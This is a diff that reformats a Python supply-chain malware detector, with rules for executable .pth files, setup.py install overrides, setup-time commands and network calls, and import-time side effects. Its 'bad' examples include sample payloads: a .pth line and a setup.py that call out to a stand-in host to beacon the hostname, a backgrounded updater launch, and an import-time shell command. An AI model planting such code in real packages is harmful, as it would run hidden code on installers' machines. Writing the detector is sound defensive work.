@@ -27,14 +27,17 @@ PTH_EXECUTES = Rule(
         "hook nobody asked for: the LiteLLM 1.82.8 release used exactly this to steal credentials "
         "from every Python process on the machine."
     ),
-    bad=Example(path="evil_init.pth", code=(
-        "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
-        "'import urllib.request; urllib.request.urlopen(\"https://example.invalid/x\")'])\n")),
+    bad=Example(
+        path="evil_init.pth",
+        code=(
+            "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
+            "'import urllib.request; urllib.request.urlopen(\"https://example.invalid/x\")'])\n"
+        ),
+    ),
     good=Example(path="mypkg.pth", code="/opt/plugins/lib\n./vendor\n"),
     false_positives="Known start-up hooks (setuptools' distutils-precedence.pth, editable-install "
-                    "finders, namespace-package .pth files, virtualenv) are recognised and ignored.",
-    references=("https://docs.python.org/3/library/site.html",
-                "https://peps.python.org/pep-0829/"),
+    "finders, namespace-package .pth files, virtualenv) are recognised and ignored.",
+    references=("https://docs.python.org/3/library/site.html", "https://peps.python.org/pep-0829/"),
 )
 PTH_IMPORTS = Rule(
     id="DV102",
@@ -49,9 +52,13 @@ PTH_IMPORTS = Rule(
         "are reported separately."
     ),
     bad=Example(path="startup_hook.pth", code="import startup_hook_impl\n"),
-    good=Example(path="distutils-precedence.pth", code=(
-        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
-        "enabled and __import__('_distutils_hack').add_shim(); \n")),
+    good=Example(
+        path="distutils-precedence.pth",
+        code=(
+            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
+            "enabled and __import__('_distutils_hack').add_shim(); \n"
+        ),
+    ),
 )
 SETUP_COMMAND_OVERRIDE = Rule(
     id="DV103",
@@ -64,16 +71,24 @@ SETUP_COMMAND_OVERRIDE = Rule(
         "run arbitrary code when the package is installed or built. Most install-time malware "
         "hides its payload in such an override's `run` method."
     ),
-    bad=Example(path="setup.py", code=(
-        "from setuptools import setup\nfrom setuptools.command.install import install\n\n"
-        "class PostInstall(install):\n    def run(self):\n        install.run(self)\n"
-        "        beacon()\n\nsetup(name='x', cmdclass={'install': PostInstall})\n")),
-    good=Example(path="setup.py", code=(
-        "from setuptools import setup\nfrom setuptools.command.install import install\n\n"
-        "class Install(install):\n    def run(self):\n        super().run()\n\n"
-        "setup(name='x', cmdclass={'install': Install})\n")),
+    bad=Example(
+        path="setup.py",
+        code=(
+            "from setuptools import setup\nfrom setuptools.command.install import install\n\n"
+            "class PostInstall(install):\n    def run(self):\n        install.run(self)\n"
+            "        beacon()\n\nsetup(name='x', cmdclass={'install': PostInstall})\n"
+        ),
+    ),
+    good=Example(
+        path="setup.py",
+        code=(
+            "from setuptools import setup\nfrom setuptools.command.install import install\n\n"
+            "class Install(install):\n    def run(self):\n        super().run()\n\n"
+            "setup(name='x', cmdclass={'install': Install})\n"
+        ),
+    ),
     false_positives="Build customisations that generate files; the rule is medium on its own and "
-                    "matters through what the override does.",
+    "matters through what the override does.",
 )
 SETUP_RUNS_COMMAND = Rule(
     id="DV104",
@@ -87,12 +102,20 @@ SETUP_RUNS_COMMAND = Rule(
         "before anyone imports the package. Compilers, git, cmake and the running Python are "
         "recognised as build steps."
     ),
-    bad=Example(path="setup.py", code=(
-        "import os\nfrom setuptools import setup\nos.system('nohup ./updater >/dev/null 2>&1 &')\n"
-        "setup(name='x')\n")),
-    good=Example(path="setup.py", code=(
-        "import subprocess\nfrom setuptools import setup\n"
-        "rev = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode()\nsetup(name='x')\n")),
+    bad=Example(
+        path="setup.py",
+        code=(
+            "import os\nfrom setuptools import setup\nos.system('nohup ./updater >/dev/null 2>&1 &')\n"
+            "setup(name='x')\n"
+        ),
+    ),
+    good=Example(
+        path="setup.py",
+        code=(
+            "import subprocess\nfrom setuptools import setup\n"
+            "rev = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode()\nsetup(name='x')\n"
+        ),
+    ),
     false_positives="Builds that drive unusual tools from setup.py.",
 )
 SETUP_NETWORK = Rule(
@@ -106,12 +129,19 @@ SETUP_NETWORK = Rule(
         "index never needs this: dependencies are declared, not fetched by the build script. "
         "Droppers fetch their second stage this way, and beacons report the installing host."
     ),
-    bad=Example(path="setup.py", code=(
-        "import urllib.request\nfrom setuptools import setup\n"
-        "urllib.request.urlopen('https://example.invalid/ping?host=' + __import__('socket').gethostname())\n"
-        "setup(name='x')\n")),
-    good=Example(path="setup.py", code=(
-        "from setuptools import setup\nsetup(name='x', url='https://example.org/project')\n")),
+    bad=Example(
+        path="setup.py",
+        code=(
+            "import urllib.request\nfrom setuptools import setup\n"
+            "host = __import__('socket').gethostname()\n"
+            "urllib.request.urlopen('https://example.invalid/ping?host=' + host)\n"
+            "setup(name='x')\n"
+        ),
+    ),
+    good=Example(
+        path="setup.py",
+        code=("from setuptools import setup\nsetup(name='x', url='https://example.org/project')\n"),
+    ),
 )
 IMPORT_SIDE_EFFECT = Rule(
     id="DV106",
@@ -124,46 +154,130 @@ IMPORT_SIDE_EFFECT = Rule(
         "process or talks to the network as soon as the package is imported. Libraries do this "
         "almost never; import-time payloads (Telnyx 4.87.1, ultralytics 8.3.41) do it always."
     ),
-    bad=Example(path="fastjsonx/__init__.py", code=(
-        "import subprocess\nsubprocess.Popen(['sh', '-c', 'sleep 1; id > /tmp/.x'])\n")),
-    good=Example(path="fastjsonx/__init__.py", code=(
-        "import subprocess\n\ndef run(cmd):\n    return subprocess.run(cmd, check=True)\n")),
+    bad=Example(
+        path="fastjsonx/__init__.py",
+        code=("import subprocess\nsubprocess.Popen(['sh', '-c', 'sleep 1; id > /tmp/.x'])\n"),
+    ),
+    good=Example(
+        path="fastjsonx/__init__.py",
+        code=("import subprocess\n\ndef run(cmd):\n    return subprocess.run(cmd, check=True)\n"),
+    ),
 )
 
 # Start-up hooks that ship with common tools; matched per line.
 _KNOWN_PTH = (
     re.compile(r"^import _virtualenv\s*$"),
     re.compile(r"__import__\('_distutils_hack'\)\.(add_shim|do_override)\(\)"),
-    re.compile(r"^import (__editable__[\w.]+_finder|_[\w]+_editable_finder|_editable_impl_\w+); "
-               r"\1\.install\("),
+    re.compile(
+        r"^import (__editable__[\w.]+_finder|_[\w]+_editable_finder|_editable_impl_\w+); "
+        r"\1\.install\("
+    ),
     re.compile(r"^import sys, types, os;.*sys\._getframe\(1\)\.f_locals\['sitedir'\]"),
     re.compile(r"^import sys, types, os;has_mfs"),
     re.compile(r"^import _?[\w.]*(coverage|pytest_cov)[\w.]*; ?[\w.]*process_startup\(\)\s*$"),
     re.compile(r"^import \w+;\s*\w+\.install\(\)\s*$"),
     re.compile(r"^import pywin32_bootstrap\s*$"),
 )
-_INSTALL_COMMANDS = frozenset({"install", "develop", "egg_info", "build_py", "sdist", "bdist_egg",
-                               "bdist_wheel", "easy_install", "install_lib", "install_scripts",
-                               "build", "bdist", "install_data", "editable_wheel"})
-_HARMLESS_IN_OVERRIDE = re.compile(r"(^|\.)(run|run_command|do_egg_install|announce|print|warn|info|"
-                                   r"debug|error|getattr|super|execute|__init__|initialize_options|"
-                                   r"finalize_options|ensure_finalized|get_outputs|mkpath)$")
+_INSTALL_COMMANDS = frozenset(
+    {
+        "install",
+        "develop",
+        "egg_info",
+        "build_py",
+        "sdist",
+        "bdist_egg",
+        "bdist_wheel",
+        "easy_install",
+        "install_lib",
+        "install_scripts",
+        "build",
+        "bdist",
+        "install_data",
+        "editable_wheel",
+    }
+)
+_HARMLESS_IN_OVERRIDE = re.compile(
+    r"(^|\.)(run|run_command|do_egg_install|announce|print|warn|info|"
+    r"debug|error|getattr|super|execute|__init__|initialize_options|"
+    r"finalize_options|ensure_finalized|get_outputs|mkpath)$"
+)
 # Programs a build legitimately runs from setup.py.
-_BUILD_PROGRAMS = frozenset({
-    "git", "hg", "svn", "cmake", "make", "gmake", "ninja", "meson", "gcc", "g++", "cc", "c++", "clang",
-    "clang++", "cl", "link", "nvcc", "pkg-config", "cython", "swig", "rustc", "cargo", "go", "xcrun",
-    "uname", "which", "ldconfig", "sw_vers", "lsb_release", "autoreconf", "autoconf", "./configure",
-    "configure", "patch", "tar", "npm", "yarn", "node", "javac", "mvn", "gfortran", "ar", "strip",
-    "install_name_tool", "otool", "patchelf", "brew", "protoc", "flex", "bison", "llvm-config",
-    "python", "python3", "sys.executable", "pip", "nproc", "getconf", "sysctl", "hipcc", "icc",
-})
+_BUILD_PROGRAMS = frozenset(
+    {
+        "git",
+        "hg",
+        "svn",
+        "cmake",
+        "make",
+        "gmake",
+        "ninja",
+        "meson",
+        "gcc",
+        "g++",
+        "cc",
+        "c++",
+        "clang",
+        "clang++",
+        "cl",
+        "link",
+        "nvcc",
+        "pkg-config",
+        "cython",
+        "swig",
+        "rustc",
+        "cargo",
+        "go",
+        "xcrun",
+        "uname",
+        "which",
+        "ldconfig",
+        "sw_vers",
+        "lsb_release",
+        "autoreconf",
+        "autoconf",
+        "./configure",
+        "configure",
+        "patch",
+        "tar",
+        "npm",
+        "yarn",
+        "node",
+        "javac",
+        "mvn",
+        "gfortran",
+        "ar",
+        "strip",
+        "install_name_tool",
+        "otool",
+        "patchelf",
+        "brew",
+        "protoc",
+        "flex",
+        "bison",
+        "llvm-config",
+        "python",
+        "python3",
+        "sys.executable",
+        "pip",
+        "nproc",
+        "getconf",
+        "sysctl",
+        "hipcc",
+        "icc",
+    }
+)
 
 
 class StartupDetector(Detector):
-    rules: ClassVar[tuple[Rule, ...]] = (PTH_EXECUTES, PTH_IMPORTS, SETUP_COMMAND_OVERRIDE,
-                                         SETUP_RUNS_COMMAND, SETUP_NETWORK, IMPORT_SIDE_EFFECT)
-    tokens: ClassVar[tuple[str, ...]] = ("cmdclass", "install", "develop", "egg_info", "build_py",
-                                         "sdist")
+    rules: ClassVar[tuple[Rule, ...]] = (
+        PTH_EXECUTES,
+        PTH_IMPORTS,
+        SETUP_COMMAND_OVERRIDE,
+        SETUP_RUNS_COMMAND,
+        SETUP_NETWORK,
+        IMPORT_SIDE_EFFECT,
+    )
+    tokens: ClassVar[tuple[str, ...]] = ("cmdclass", "install", "develop", "egg_info", "build_py", "sdist")
 
     def on_module(self, ctx: PyContext) -> None:
         if ctx.file.kind is FileKind.PTH and ctx.file.layer == 0:
@@ -180,8 +294,11 @@ class StartupDetector(Detector):
     # -- .pth ------------------------------------------------------------------------------
 
     def _pth(self, ctx: PyContext) -> None:
-        dangerous_lines = {c.line for c in ctx.facts.calls
-                           if c.name in EXEC_NAMES or c.name in PROCESS_NAMES or c.name in DECODER_NAMES}
+        dangerous_lines = {
+            c.line
+            for c in ctx.facts.calls
+            if c.name in EXEC_NAMES or c.name in PROCESS_NAMES or c.name in DECODER_NAMES
+        }
         dangerous_lines |= {m.local_line for m in ctx.module_marks if m.cap is not Cap.SYSINFO}
         for number, line in enumerate(ctx.text.split("\n"), start=1):
             if not line.startswith(("import ", "import\t")):
@@ -200,12 +317,19 @@ class StartupDetector(Detector):
             commands = [b.rsplit(".", 1)[-1] for b in scope.bases]
             if not any(c in _INSTALL_COMMANDS for c in commands):
                 continue
-            extra = [c for c in ctx.facts.calls
-                     if _inside(c.scope, scope) and not _harmless_call(c.name or c.attr or "")]
+            extra = [
+                c
+                for c in ctx.facts.calls
+                if _inside(c.scope, scope) and not _harmless_call(c.name or c.attr or "")
+            ]
             if extra:
                 names = ", ".join(sorted({c.name or c.attr or "?" for c in extra})[:4])
-                ctx.report(SETUP_COMMAND_OVERRIDE, scope.line,
-                           f"class {scope.name}({', '.join(commands)}) also calls {names}", RunContext.INSTALL)
+                ctx.report(
+                    SETUP_COMMAND_OVERRIDE,
+                    scope.line,
+                    f"class {scope.name}({', '.join(commands)}) also calls {names}",
+                    RunContext.INSTALL,
+                )
 
     def _install_time(self, ctx: PyContext, mark: Mark) -> None:
         if mark.cap is Cap.PROCESS:
